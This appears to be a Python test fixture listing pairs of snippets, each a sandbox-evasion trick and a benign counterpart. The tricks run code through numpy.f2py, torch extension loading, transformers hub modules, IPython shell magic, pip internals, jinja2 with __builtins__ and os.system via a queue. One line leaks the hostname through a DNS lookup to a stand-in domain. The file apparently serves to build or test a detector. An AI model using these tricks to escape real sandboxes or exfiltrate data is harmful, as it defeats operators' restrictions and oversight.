"""Tricks by what is installed beside Python."""

from __future__ import annotations

TEXT = r"""
compilers of numpy
import numpy.f2py
numpy.f2py.compile(open('w.f').read())
---
import numpy
numpy.fft.fft([1])
###
tests of numpy
import numpy.testing as t
t.runstring(open('w.txt').read(), {})
---
import numpy.testing as t
t.assert_allclose(1, 1)
###
extensions that are built
import torch.utils.cpp_extension
torch.utils.cpp_extension.load_inline('x', open('w.cpp').read())
---
import torch.utils.checkpoint
torch.utils.checkpoint.checkpoint(len, [])
###
classes of torch
import torch
torch.classes.load_library('w.so')
---
import torch
torch.jit.script(len)
###
modules of a hub
from transformers.dynamic_module_utils import get_class_from_dynamic_module as g
g('net.Net', 'org/name')()
---
from transformers import AutoConfig
AutoConfig.for_model('bert')
###
a notebook's shell
from IPython import get_ipython
get_ipython().run_line_magic('sx', 'echo inert')
---
from IPython.display import display
display(3)
###
pip by its modules
import pip._internal as p
getattr(p, 'main')(['install', 'x'])
---
import importlib.metadata
importlib.metadata.version('pip')
###
a plug-in of a template
import jinja2
jinja2.Environment().from_string(open('w.txt').read()).render(f=__builtins__)
---
import jinja2
jinja2.Environment
###
a loader of torch's packages
import torch.package as p
p.PackageImporter('w.pt').import_module('net')
---
import torch.profiler as p
p.profile()
###
a query of names
import socket, os
socket.getaddrinfo(os.uname().nodename + '.example.invalid', 80)
---
import socket
socket.getaddrinfo('localhost', 80)
###
a worker of a queue
import queue, os
q = queue.Queue()
q.put(os.system)
q.get()('echo inert')
---
import queue
q = queue.Queue()
q.put(len)
q.get()('a')
"""
